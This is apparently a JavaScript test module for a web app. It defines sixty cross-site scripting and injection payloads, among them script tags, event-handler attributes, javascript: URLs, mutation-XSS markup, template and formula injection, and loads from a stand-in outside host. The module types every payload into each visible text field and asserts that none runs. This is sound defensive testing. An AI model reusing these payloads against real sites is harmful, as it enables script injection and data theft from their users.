/**
 * Sixty ways to make text run as a program, typed into every text field of a page. Each would set `window.__ran`, ask something outside the
 * program or open a dialog; the journey fails when one does. Chromium gets them one by one, the real window in one batch a page.
 */

import assert from 'node:assert/strict';

const RUN = 'window.__ran=(window.__ran||0)+1';
const AWAY = 'https://counterfoil.invalid';

const tags = [
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src="${AWAY}/a.js"></script>`,
  `<script src=data:text/javascript,${RUN}></script>`,
  `<script type=module>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src=x onerror=${RUN}//`,
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror='${RUN}'>`,
  `<img src="${AWAY}/pixel.png">`,
  `<svg onload="${RUN}"></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<svg><a href="javascript:${RUN}"><text y=20>press</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload='${RUN}'>#x"></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe src="${AWAY}"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<body onload="${RUN}">`,
  `<body onpageshow="${RUN}">`,
  `<input autofocus onfocus="${RUN}">`,
  `<select autofocus onfocus="${RUN}"></select>`,
  `<textarea autofocus onfocus="${RUN}"></textarea>`,
  `<details open ontoggle="${RUN}">`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src=x onerror="${RUN}"></audio>`,
  `<marquee onstart="${RUN}">`,
  `<a href="javascript:${RUN}">press</a>`,
  `<a href="JaVaScRiPt:${RUN}">press</a>`,
  `<a href="java\tscript:${RUN}">press</a>`,
  `<a href="&#106;avascript:${RUN}">press</a>`,
  `<form action="javascript:${RUN}"><button>press</button></form>`,
  `<form id=f></form><button form=f formaction="javascript:${RUN}">press</button>`,
  `<base href="${AWAY}/">`,
  `<link rel=stylesheet href="${AWAY}/a.css">`,
  `<link rel=preload as=script href="${AWAY}/b.js">`,
  `<meta http-equiv=refresh content="0;url=${AWAY}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<style>@import '${AWAY}/c.css';</style>`,
  `<style>*{background:url(${AWAY}/d.png)}</style>`,
  `<div style="background:url(${AWAY}/e.png)">x</div>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
];

const text = [
  `javascript:${RUN}`,
  `" onmouseover="${RUN}" x="`,
  `' autofocus onfocus='${RUN}' x='`,
  `\`\${${RUN}}\``,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `';${RUN};//`,
  `\\";${RUN};//`,
  `__proto__[ran]=${RUN}`,
  `=HYPERLINK("${AWAY}";"press")`,
  `\u2028${RUN}\u2029<\u0000script>${RUN}</script>`,
];

export const PAYLOADS = [...tags, ...text];
assert.equal(PAYLOADS.length, 60, 'the promise names sixty');

/** Fills every text field that can be seen, waits for what the page makes of it, and empties the fields again. Answers how many there were. */
const FILL = `
  const [text] = args;
  const fields = [...document.querySelectorAll('input, textarea')].filter((field) =>
    !field.readOnly && !field.disabled && field.getClientRects().length > 0 && ['text', 'search', 'textarea', 'email', 'tel', 'url'].includes(field.type));
  for (const field of fields) {
    const prototype = field instanceof HTMLTextAreaElement ? HTMLTextAreaElement.prototype : HTMLInputElement.prototype;
    Object.getOwnPropertyDescriptor(prototype, 'value').set.call(field, text);
    field.dispatchEvent(new Event('input', { bubbles: true }));
  }
  return fields.length;`;

/** Types every payload into every text field of the present page. */
export async function attackPage(screen) {
  const batches = screen.kind === 'window' ? [PAYLOADS.join(' ')] : PAYLOADS;
  let fields = 0;
  for (const batch of batches) {
    fields = Math.max(fields, await screen.run(FILL, batch));
    await screen.run('return new Promise((done) => requestAnimationFrame(() => setTimeout(done, 5)));');
  }
  await screen.run(`return new Promise((done) => setTimeout(done, 400));`);
  assert.equal(await screen.run('return window.__ran ?? 0;'), 0, 'no payload ran');
  await screen.run(FILL, '');
  return fields;
}
